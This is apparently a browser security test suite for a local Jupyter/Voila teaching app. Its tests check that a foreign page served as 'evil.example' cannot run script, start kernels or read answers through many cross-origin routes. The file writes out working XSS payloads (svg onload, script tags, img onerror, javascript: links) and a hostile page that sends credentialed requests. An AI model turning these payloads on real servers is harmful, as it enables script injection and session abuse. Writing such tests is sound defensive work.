"""A page of somebody else's, in the browser of a learner and a teacher who are logged in: it gets nothing.

It stands at another port, under another name of this machine, and under a name of its own, and takes each
way that a page has to reach an address. Then what a person does: a file that leads here, a reload, a link, a
second window.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.app.test_own_site import LESSON, started
from tests.browser.notebook import SLOWLY
from tests.browser.server import CHROMIUM, FLAGS

pytestmark = pytest.mark.slow  # some 550 ways, in a browser

EVIL = "evil.example"

ATTACK = """<!DOCTYPE html><title>A page of somebody else's</title><script>
const read = [];
const note = (way, url) => read.push(`${way} ${url}`);
const element = (tag, key, url, loads) => new Promise((done) => {
  const made = document.createElement(tag);
  if (tag === "link") made.rel = "stylesheet";
  made[key] = url;
  made.onload = () => done(loads && note(tag, url));
  made.onerror = done;
  setTimeout(done, 2000);
  document.body.append(made);
});
const send = (method, url, target) => {
  const form = document.createElement("form");
  const { origin, pathname, searchParams } = new URL(url);
  Object.assign(form, { method, action: origin + pathname, target });
  for (const [name, value] of searchParams)
    form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
};
const fetched = (url, options) =>
  fetch(url, { credentials: "include", ...options })
    .then((answer) => answer.text())
    .then((text) => text && note("fetch", url), () => {});
const socket = (url) => new Promise((done) => {
  const made = new WebSocket(url.replace(/^http/, "ws"));
  made.onopen = () => done(note("websocket", url));
  made.onclose = done;
});
const ways = {
  fetch: (url) => fetched(url),
  "fetch without CORS": (url) => fetched(url, { mode: "no-cors" }),
  "POST without CORS": (url) => fetched(url, { mode: "no-cors", method: "POST", body: "{}" }),
  "fetch with a header": (url) => fetched(url, { headers: { Authorization: "token x" } }),
  beacon: async (url) => navigator.sendBeacon(url, "{}"),
  websocket: socket,
  image: (url) => element("img", "src", url, true),
  script: (url) => element("script", "src", url, true),
  style: (url) => element("link", "href", url, true),
  frame: (url) => element("iframe", "src", url, false),
  object: (url) => element("object", "data", url, false),
  embed: (url) => element("embed", "src", url, false),
  window: async (url) => window.open(url),
  form: async (url) => send("GET", url, "_blank"),
  "form by POST": async (url) => send("POST", url, "_blank"),
};
async function attack(addresses) {
  const all = addresses.flatMap((address) => Object.values(ways).map((way) => way(address)));
  await Promise.all(all);
  return all.length;
}
</script>"""


@contextmanager
def foreign() -> Iterator[tuple[int, list[str]]]:
    """Serve the page; give its port, and what was asked for beside it: scripts that ran say so there."""
    told = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path.startswith(("/ran", "/event")):
                told.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(ATTACK.encode())

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port, told
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture(scope="module")
def learner():
    with started("lab", "lessons", "--port", "0", "--no-browser") as server:
        yield server


@pytest.fixture(scope="module")
def teacher():
    with started("demo", "4", "--port", "0", "--no-browser") as server:
        yield server


@pytest.fixture(scope="module")
def context(chromium):
    """Open a browser in which a foreign name leads to this machine."""
    browser = chromium.browser_type.launch(
        executable_path=CHROMIUM, args=[*FLAGS, f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"]
    )
    context = browser.new_context()
    context.set_default_timeout(SLOWLY)
    yield context
    browser.close()


def log_in(page, learner, teacher):
    """Open a lesson as a learner and the menu as a teacher; return the kernels that run then."""
    page.goto(f"http://{learner.host}/lab/tree/{LESSON}?token={learner.token}")
    expect(page.locator("#jp-bottom-panel")).to_contain_text("(ipykernel) | Idle", timeout=SLOWLY)
    page.goto(f"http://{teacher.host}/?token={teacher.token}")
    expect(page.get_by_role("listitem")).to_have_count(11, timeout=SLOWLY)
    page.wait_for_timeout(1000)
    return {"lab": learner.kernels(), "demo": teacher.kernels()}


def script_to(port):
    """Return a query that leaves its attribute and tells that it ran; a plus would be read as a space."""
    runs = f'<script>new Image().src="http://127.0.0.1:{port}/ran/".concat(location.port)</script>'
    event = f"new Image().src=`http://127.0.0.1:{port}/event/`.concat(location.port)"
    return f'"><svg onload="{event}">{runs}'


def origins_at(port):
    return [f"http://{name}:{port}" for name in ("127.0.0.1", "localhost", EVIL)]


def test_a_foreign_page_that_sends_the_browser_here_runs_no_script(context, learner, teacher):
    page = context.new_page()
    log_in(page, learner, teacher)
    answers = []

    with foreign() as (port, told):
        for origin in origins_at(port):
            for server in (learner, teacher):
                address = f"http://{server.host}/voila/render/{LESSON}?theme={script_to(port)}"
                page.goto(f"{origin}/")
                with page.expect_navigation(wait_until="commit") as navigation:
                    page.evaluate("(address) => { location = address; }", address)
                answers.append(navigation.value.status)
                page.wait_for_timeout(1000)  # for what would run now

    print(f"\n{len(answers)} ways in: {len(told)} scripts run, answers {answers}")
    assert told == []
    assert set(answers) == {403}


def test_a_foreign_page_runs_no_script_starts_no_kernel_and_reads_nothing(context, learner, teacher):
    page = context.new_page()
    before = log_in(page, learner, teacher)
    (kernel,) = before["lab"]
    read, refused, ways = [], [], 0

    with foreign() as (port, told):
        query = script_to(port)
        addresses = [
            *(f"http://{s.host}/voila/render/{LESSON}?theme={query}" for s in (learner, teacher)),
            *(f"http://{s.host}/voila/render/{LESSON}?theme=x&template={query}" for s in (learner, teacher)),
            *(f"http://{s.host}/?next={query}" for s in (learner, teacher)),
            f"http://{learner.host}/lab/tree/{LESSON}?reset={query}",
            f"http://{learner.host}/api/kernels",
            f"http://{learner.host}/api/kernels/{kernel}/channels",
            f"http://{learner.host}/files/{LESSON}",
            f"http://{learner.host}/static/favicon.ico",
            f"http://{teacher.host}/voila/templates/lab/static/voila.js",
        ]
        for origin in origins_at(port):
            page.goto(f"{origin}/")
            ways += page.evaluate("(addresses) => attack(addresses)", addresses)
            read += page.evaluate("read")
        # A name of the other's that leads to this machine makes the browser take our server for his.
        for server in (learner, teacher):
            for path in ("/", f"/voila/render/{LESSON}", f"/lab?token={server.token}"):
                address = f"http://{EVIL}:{server.host.partition(':')[2]}{path}"
                answer = page.goto(address, wait_until="commit")
                refused.append(answer.status)
                ways += 1
        page.wait_for_timeout(3000)  # for what would run now
        started_ = {"lab": learner.kernels() - before["lab"], "demo": teacher.kernels() - before["demo"]}

    print(
        f"\n3 origins, {ways} tries: {len(told)} scripts run, "
        f"{sum(map(len, started_.values()))} kernels started, {len(read)} answers read; "
        f"by another name: {refused}"
    )
    assert told == []
    assert started_ == {"lab": set(), "demo": set()}
    assert read == []
    assert set(refused) == {403}
    for opened in context.pages[1:]:
        opened.close()


@pytest.mark.thorough
def test_a_person_comes_from_a_file_reloads_follows_links_and_opens_windows(chromium, learner, teacher):
    context = chromium.new_context()
    context.set_default_timeout(SLOWLY)
    complaints = []
    context.on(
        "console",
        lambda m: complaints.append(m.text) if "Content Security Policy" in m.text else None,
    )
    context.on("response", lambda r: complaints.append(f"{r.status} {r.url}") if r.status >= 400 else None)
    (led,) = (learner.folder / "work/runtime").glob("jpserver-*-open.html")
    (learner.folder / "demo.html").write_text(
        f'<meta http-equiv="refresh" content="0; url=http://{teacher.host}/?token={teacher.token}">'
    )
    lesson, shown = context.new_page(), context.new_page()

    lesson.goto(led.as_uri())
    expect(lesson.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=SLOWLY)
    lesson.reload()
    expect(lesson.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=SLOWLY)
    second = context.new_page()
    second.goto(f"http://{learner.host}/lab/tree/01_a_leaky_bucket.ipynb")
    expect(second.locator(".jp-Notebook .jp-Cell").first).to_be_visible(timeout=SLOWLY)

    shown.goto((learner.folder / "demo.html").as_uri())
    expect(shown.get_by_role("listitem")).to_have_count(11, timeout=SLOWLY)
    shown.reload()
    shown.get_by_role("listitem").nth(3).get_by_role("link").click()
    shown.locator(".leakyedu-presets button").first.wait_for()
    shown.locator(".leakyedu-presets button").nth(1).click()
    expect(shown.locator(".leakyedu-presets [aria-pressed=true]")).to_have_count(1)
    shown.reload()
    shown.locator(".leakyedu-presets button").first.wait_for()
    shown.get_by_role("link", name="All lessons").click()
    expect(shown.get_by_role("listitem")).to_have_count(11, timeout=SLOWLY)

    assert "token" not in shown.url + lesson.url
    assert complaints == []
    context.close()


HTML = "<img src=x onerror='window.ran = 1'><script>window.ran = 2</script><b>here</b>"


def test_a_script_that_is_put_into_a_page_does_not_run(chromium, learner, teacher):
    context = chromium.new_context()
    page = context.new_page()
    for address in (f"http://{learner.host}/lab/tree/{LESSON}", f"http://{teacher.host}/"):
        page.goto(f"{address}?token={learner.token if learner.host in address else teacher.token}")
        page.locator(".jp-Notebook .jp-Cell, ol li a").first.wait_for(timeout=SLOWLY)

        ran = page.evaluate(
            """async (html) => {
              document.body.append(document.createRange().createContextualFragment(html));
              const a = Object.assign(document.createElement("a"), { href: "javascript:window.ran = 3" });
              a.click();
              await new Promise((done) => setTimeout(done, 300));
              return [window.ran ?? 0, document.body.innerText.includes("here")];
            }""",
            HTML,
        )

        assert ran == [0, True], address
    context.close()
